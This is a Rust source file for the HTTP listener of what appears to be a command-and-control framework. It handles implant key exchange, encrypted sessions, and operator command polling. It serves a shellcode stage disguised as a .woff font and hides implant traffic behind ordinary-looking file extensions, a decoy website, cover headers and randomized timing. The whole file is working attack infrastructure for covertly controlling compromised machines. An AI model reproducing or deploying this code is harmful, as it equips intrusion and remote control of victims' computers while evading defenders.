use super::headers::random_etag;
use super::router::{self, C2Error, Route};
use super::session_manager::HttpSession;
use super::C2Context;
use crate::certs;
use crate::crypto::{self, AesKey};
use crate::encoders::Encoder;
use crate::protocol::{Envelope, SessionInit};
use crate::session::handlers::session_handlers;
use bytes::Bytes;
use cookie::Cookie;
use http::{header, HeaderValue, Method, Request, Response, StatusCode, Uri};
use http_body_util::{BodyExt, Full, Limited};
use rand::Rng;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

type C2Response = Response<Full<Bytes>>;

/// Route a single request through the C2 surface. Cover headers are stamped
/// on every response, whatever the outcome.
pub async fn dispatch<B>(ctx: Arc<C2Context>, peer: SocketAddr, req: Request<B>) -> C2Response
where
    B: http_body::Body + Send + 'static,
    B::Data: Send,
    B::Error: Into<Box<dyn std::error::Error + Send + Sync>>,
{
    let user_agent = req
        .headers()
        .get(header::USER_AGENT)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
        .to_string();
    let remote = router::remote_address(peer, req.headers());
    tracing::info!(
        target: crate::logging::ACCESS_TARGET,
        "{} - {} - {}",
        remote,
        req.uri(),
        user_agent
    );

    let path = req.uri().path().to_string();
    let route = router::match_route(&path, req.method());

    let mut response = match route {
        Route::Stager => stager_handler(&ctx, &remote),
        Route::Other => website_handler(&ctx, &path, req.method()),
        _ => match router::encoder_from_uri(req.uri()) {
            Err(err) => {
                // A failed nonce filter means the request never matched the
                // C2 profile; it falls through to the cover site like any
                // other path.
                tracing::warn!("Request failed nonce filter: {}", err);
                website_handler(&ctx, &path, req.method())
            }
            Ok((encoder_id, encoder)) => {
                tracing::debug!(encoder = encoder_id, "Request nonce accepted");
                match route {
                    Route::RsaKey => rsa_key_handler(&ctx, req.uri(), encoder),
                    Route::StartSession => {
                        start_session_handler(&ctx, &remote, encoder, req).await
                    }
                    Route::SessionData => session_data_handler(&ctx, encoder, req).await,
                    Route::Poll => poll_handler(&ctx, encoder, &req).await,
                    Route::Stop => stop_handler(&ctx, encoder, req).await,
                    _ => empty_response(StatusCode::NOT_FOUND),
                }
            }
        },
    };

    ctx.cover.decorate(&path, &mut response);
    response
}

fn empty_response(status: StatusCode) -> C2Response {
    let mut response = Response::new(Full::new(Bytes::new()));
    *response.status_mut() = status;
    response
}

fn error_response(err: &C2Error) -> C2Response {
    empty_response(err.status())
}

fn bytes_response(status: StatusCode, body: Vec<u8>) -> C2Response {
    let mut response = Response::new(Full::new(Bytes::from(body)));
    *response.status_mut() = status;
    response
}

/// Handshake endpoints optionally sit behind a TOTP gate. Failures are
/// indistinguishable from any other 404.
fn otp_gate(ctx: &C2Context, uri: &Uri) -> Result<(), C2Error> {
    if !ctx.config.enforce_otp {
        return Ok(());
    }
    let totp = ctx.totp.as_ref().ok_or(C2Error::InvalidOtp)?;
    let code = router::otp_from_uri(uri)?;
    if totp.validate(&code) {
        Ok(())
    } else {
        tracing::warn!("OTP validation failed");
        Err(C2Error::InvalidOtp)
    }
}

/// GET *.txt - serve the C2 RSA certificate, wrapped by the request encoder.
fn rsa_key_handler(ctx: &C2Context, uri: &Uri, encoder: &'static dyn Encoder) -> C2Response {
    tracing::info!("Public key request");
    if let Err(err) = otp_gate(ctx, uri) {
        return error_response(&err);
    }
    let cn = ctx.c2_domain();
    match ctx.ca.get_or_generate_rsa(certs::C2_SERVER_CA, &cn) {
        Ok((cert_pem, _)) => bytes_response(StatusCode::OK, encoder.encode(cert_pem.as_bytes())),
        Err(e) => {
            tracing::warn!(cn = %cn, "Failed to get server certificate: {}", e);
            error_response(&C2Error::UpstreamUnavailable("certificate authority"))
        }
    }
}

/// GET/POST *.phtml - key exchange. The body is encoder-encoded,
/// RSA-encrypted SessionInit; the reply is the new session id sealed under
/// the implant-supplied key, plus the session cookie.
async fn start_session_handler<B>(
    ctx: &Arc<C2Context>,
    remote: &str,
    encoder: &'static dyn Encoder,
    req: Request<B>,
) -> C2Response
where
    B: http_body::Body + Send + 'static,
    B::Data: Send,
    B::Error: Into<Box<dyn std::error::Error + Send + Sync>>,
{
    tracing::info!("Start http session request");
    if let Err(err) = otp_gate(ctx, req.uri()) {
        return error_response(&err);
    }

    let cn = ctx.c2_domain();
    let key_pem = match ctx.ca.get_or_generate_rsa(certs::C2_SERVER_CA, &cn) {
        Ok((_, key_pem)) => key_pem,
        Err(e) => {
            tracing::warn!("Failed to fetch rsa private key: {}", e);
            return error_response(&C2Error::UpstreamUnavailable("certificate authority"));
        }
    };
    let private_key = match crypto::rsa::private_key_from_pem(&key_pem) {
        Ok(key) => key,
        Err(_) => return error_response(&C2Error::CryptoFailed),
    };

    let body = match read_body(req.into_body(), ctx.config.max_request_length).await {
        Ok(body) => body,
        Err(err) => return error_response(&err),
    };
    let data = match encoder.decode(&body) {
        Ok(data) => data,
        Err(_) => {
            tracing::warn!("Failed to decode session init body");
            return error_response(&C2Error::DecodeFailed);
        }
    };
    let init_data = match crypto::rsa::rsa_decrypt(&private_key, &data) {
        Ok(plaintext) => plaintext,
        Err(_) => {
            tracing::warn!("RSA decryption failed");
            return error_response(&C2Error::CryptoFailed);
        }
    };
    let session_init = match SessionInit::from_bytes(&init_data) {
        Ok(init) => init,
        Err(_) => return error_response(&C2Error::BadRequest),
    };
    let key = match AesKey::from_bytes(&session_init.key) {
        Ok(key) => key,
        Err(_) => return error_response(&C2Error::CryptoFailed),
    };

    let (session, egress) = ctx.registry.add("http(s)", remote);
    let http_session = Arc::new(HttpSession::new(key, session, egress));
    http_session.session.update_checkin();

    let ciphertext = match crypto::gcm_seal(http_session.key(), http_session.id.as_bytes()) {
        Ok(ciphertext) => ciphertext,
        Err(_) => {
            tracing::warn!("Failed to encrypt session identifier");
            ctx.registry.remove(http_session.session.id);
            return error_response(&C2Error::CryptoFailed);
        }
    };

    let mut builder = Cookie::build((ctx.cover.cookie_name().to_string(), http_session.id.clone()))
        .http_only(true)
        .secure(ctx.config.secure_cookie);
    if !ctx.config.domain.is_empty() {
        builder = builder.domain(ctx.config.domain.clone());
    }
    let cookie = builder.build();

    let mut response = bytes_response(StatusCode::OK, encoder.encode(&ciphertext));
    match HeaderValue::from_str(&cookie.to_string()) {
        Ok(value) => {
            response.headers_mut().insert(header::SET_COOKIE, value);
        }
        Err(_) => {
            ctx.registry.remove(http_session.session.id);
            return error_response(&C2Error::BadRequest);
        }
    }

    // Publish only now that the response is fully staged; no half-built
    // session is ever discoverable.
    ctx.store.add(http_session.clone());
    tracing::info!(
        http_session = %http_session.id,
        session = http_session.session.id,
        "Started new http session"
    );
    response
}

/// GET/POST *.php - implant to server ingress.
async fn session_data_handler<B>(
    ctx: &Arc<C2Context>,
    encoder: &'static dyn Encoder,
    req: Request<B>,
) -> C2Response
where
    B: http_body::Body + Send + 'static,
    B::Data: Send,
    B::Error: Into<Box<dyn std::error::Error + Send + Sync>>,
{
    let http_session = match resolve_session(ctx, &req) {
        Some(session) => session,
        None => return error_response(&C2Error::UnknownSession),
    };

    let plaintext =
        match read_session_body(ctx, &http_session, encoder, req.into_body()).await {
            Ok(plaintext) => plaintext,
            Err(err) => return error_response(&err),
        };

    let envelope = match Envelope::from_bytes(&plaintext) {
        Ok(envelope) => envelope,
        Err(_) => return error_response(&C2Error::BadRequest),
    };

    if envelope.id != 0 {
        // A reply to a pending operator request. The table entry stays; the
        // waiting caller removes it once it has received.
        if !http_session.session.dispatch_resp(envelope) {
            tracing::debug!("Reply for request with no waiter");
        }
    } else if let Some(handler) = session_handlers().get(&envelope.kind) {
        handler(&http_session.session, &envelope.data);
    } else {
        tracing::warn!(kind = envelope.kind, "No handler for unsolicited envelope");
    }

    empty_response(StatusCode::ACCEPTED)
}

/// GET *.js - long poll for operator-originated envelopes.
async fn poll_handler<B>(
    ctx: &Arc<C2Context>,
    encoder: &'static dyn Encoder,
    req: &Request<B>,
) -> C2Response {
    let http_session = match resolve_session(ctx, req) {
        Some(session) => session,
        None => return error_response(&C2Error::UnknownSession),
    };

    let mut egress = http_session.egress.lock().await;
    match tokio::time::timeout(poll_timeout(ctx), egress.recv()).await {
        Ok(Some(envelope)) => {
            let ciphertext = match crypto::gcm_seal(http_session.key(), &envelope.to_bytes()) {
                Ok(ciphertext) => ciphertext,
                Err(_) => {
                    tracing::error!("Failed to encrypt envelope");
                    Vec::new()
                }
            };
            bytes_response(StatusCode::OK, encoder.encode(&ciphertext))
        }
        _ => {
            tracing::debug!("Poll timeout");
            let mut response = empty_response(StatusCode::NO_CONTENT);
            if let Ok(value) = HeaderValue::from_str(&random_etag()) {
                response.headers_mut().insert(header::ETAG, value);
            }
            response
        }
    }
}

/// GET *.png - session stop. The body still goes through the full replay
/// and decrypt discipline before teardown.
async fn stop_handler<B>(
    ctx: &Arc<C2Context>,
    encoder: &'static dyn Encoder,
    req: Request<B>,
) -> C2Response
where
    B: http_body::Body + Send + 'static,
    B::Data: Send,
    B::Error: Into<Box<dyn std::error::Error + Send + Sync>>,
{
    let http_session = match resolve_session(ctx, &req) {
        Some(session) => session,
        None => return error_response(&C2Error::UnknownSession),
    };

    if let Err(err) = read_session_body(ctx, &http_session, encoder, req.into_body()).await {
        return error_response(&err);
    }

    ctx.registry.remove(http_session.session.id);
    ctx.store.remove(&http_session.id);
    empty_response(StatusCode::ACCEPTED)
}

/// GET *.woff - serve the staged shellcode blob.
fn stager_handler(ctx: &C2Context, remote: &str) -> C2Response {
    if ctx.stage.is_empty() {
        return empty_response(StatusCode::NOT_FOUND);
    }
    tracing::info!(
        remote = %remote,
        size = ctx.stage.len(),
        "Serving staged payload"
    );
    bytes_response(StatusCode::OK, ctx.stage.clone())
}

/// Everything off the C2 profile: static cover content, or a plain 404.
fn website_handler(ctx: &C2Context, path: &str, method: &Method) -> C2Response {
    if method == Method::GET {
        if let Some(website) = &ctx.website {
            if let Some((content_type, content)) = website.get_content(path) {
                let mut response = bytes_response(StatusCode::OK, content);
                if let Ok(value) = HeaderValue::from_str(&content_type) {
                    response.headers_mut().insert(header::CONTENT_TYPE, value);
                }
                return response;
            }
            tracing::debug!(site = website.name(), path = path, "No website content");
        }
    }
    empty_response(StatusCode::NOT_FOUND)
}

/// Session lookup by cookie value, in presentation order; first match wins.
fn resolve_session<B>(ctx: &C2Context, req: &Request<B>) -> Option<Arc<HttpSession>> {
    for value in req.headers().get_all(header::COOKIE) {
        let Ok(raw) = value.to_str() else { continue };
        for cookie in Cookie::split_parse(raw.to_string()).flatten() {
            if let Some(session) = ctx.store.get(cookie.value()) {
                session.session.update_checkin();
                return Some(session);
            }
        }
    }
    tracing::warn!("No session for presented cookies");
    None
}

async fn read_body<B>(body: B, limit: usize) -> Result<Vec<u8>, C2Error>
where
    B: http_body::Body + Send + 'static,
    B::Data: Send,
    B::Error: Into<Box<dyn std::error::Error + Send + Sync>>,
{
    match Limited::new(body, limit).collect().await {
        Ok(collected) => Ok(collected.to_bytes().to_vec()),
        Err(_) => {
            tracing::warn!("Failed to read request body");
            Err(C2Error::BadRequest)
        }
    }
}

/// Shared ingress discipline: cap the read, undo the content encoder, check
/// the replay set over the still-encrypted blob, then open. The digest is
/// recorded before decryption.
async fn read_session_body<B>(
    ctx: &C2Context,
    http_session: &HttpSession,
    encoder: &'static dyn Encoder,
    body: B,
) -> Result<Vec<u8>, C2Error>
where
    B: http_body::Body + Send + 'static,
    B::Data: Send,
    B::Error: Into<Box<dyn std::error::Error + Send + Sync>>,
{
    let body = read_body(body, ctx.config.max_request_length).await?;
    let data = encoder.decode(&body).map_err(|_| {
        tracing::warn!("Failed to decode request body");
        C2Error::DecodeFailed
    })?;
    if http_session.is_replay(&data) {
        tracing::warn!(http_session = %http_session.id, "Replay attack detected");
        return Err(C2Error::ReplayDetected);
    }
    crypto::gcm_open(http_session.key(), &data).map_err(|_| C2Error::CryptoFailed)
}

fn poll_timeout(ctx: &C2Context) -> Duration {
    let jitter = if ctx.config.long_poll_jitter_ms > 0 {
        rand::thread_rng().gen_range(0..ctx.config.long_poll_jitter_ms)
    } else {
        0
    };
    Duration::from_millis(ctx.config.long_poll_timeout_ms + jitter)
}
